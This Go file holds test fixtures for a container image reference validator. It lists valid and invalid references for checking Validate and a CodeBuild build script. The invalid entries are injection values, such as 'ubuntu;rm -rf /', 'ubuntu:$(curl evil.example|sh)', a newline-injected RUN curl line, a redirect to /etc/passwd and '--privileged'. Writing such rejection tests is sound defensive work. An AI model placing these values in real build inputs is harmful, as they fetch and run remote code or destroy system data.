package imageref

import "strings"

// Example is a base image reference and whether Validate accepts it.
type Example struct {
	Name  string
	Ref   string
	Valid bool
}

// Examples lists references, ordinary and hostile, with Validate's verdict. The tests of
// this package check Validate against them, and the tests of package runner check that
// build-image.sh, which validates again inside CodeBuild, agrees on every one.
func Examples() []Example {
	return []Example{
		{"official short", "ubuntu", true},
		{"official with tag", "ubuntu:24.04", true},
		{"library path", "library/debian:12-slim", true},
		{"ecr public", "public.ecr.aws/docker/library/ubuntu:24.04", true},
		{"private ecr", "111122223333.dkr.ecr.eu-west-1.amazonaws.com/team/base:2026.11", true},
		{"registry with port", "localhost:5000/runner/base:latest", true},
		{"upper-case registry host", "Registry.Example.com/base:1", true},
		{"digest only", "rockylinux/rockylinux@sha256:" + strings.Repeat("ab", 32), true},
		{"tag and digest", "amazonlinux:2023@sha256:" + strings.Repeat("0f", 32), true},
		{"separators", "ghcr.io/my_org/my__image-x.y/sub--path:tag_1.2-3", true},
		{"tag of 128", "ubuntu:" + strings.Repeat("t", 128), true},

		{"empty", "", false},
		{"semicolon command", "ubuntu;rm -rf /", false},
		{"command substitution", "ubuntu:$(curl evil.example|sh)", false},
		{"dollar variable", "ubuntu:${HOME}", false},
		{"backticks", "ubuntu:`id`", false},
		{"newline", "ubuntu:24.04\nRUN curl evil.example", false},
		{"carriage return", "ubuntu\r", false},
		{"nul", "ubuntu\x00", false},
		{"space", "ubuntu 24.04", false},
		{"tab", "ubuntu\t24.04", false},
		{"pipe", "ubuntu|sh", false},
		{"ampersand", "ubuntu&&id", false},
		{"redirect", "ubuntu>/etc/passwd", false},
		{"quote", "ubuntu'\"", false},
		{"backslash", `ubuntu\x`, false},
		{"glob", "ubuntu*", false},
		{"upper-case repository", "Ubuntu:24.04", false},
		{"upper-case path", "docker.io/Library/ubuntu", false},
		{"leading dash (option injection)", "--privileged", false},
		{"leading dash path", "-ubuntu", false},
		{"double colon", "ubuntu:24.04:1", false},
		{"empty tag", "ubuntu:", false},
		{"tag too long", "ubuntu:" + strings.Repeat("t", 129), false},
		{"tag starting with dot", "ubuntu:.x", false},
		{"short digest", "ubuntu@sha256:abc", false},
		{"trailing slash", "ubuntu/", false},
		{"double slash", "docker.io//ubuntu", false},
		{"scheme", "https://docker.io/ubuntu", false},
		{"ipv6 registry", "[::1]:5000/ubuntu", false},
		{"unicode", "ubuntü", false},
		{"escape sequence", "ubuntu\x1b[31m", false},
		{"very long", strings.Repeat("a/", 300) + "a", false},
		{"name over 255", strings.Repeat("a", 256), false},
	}
}
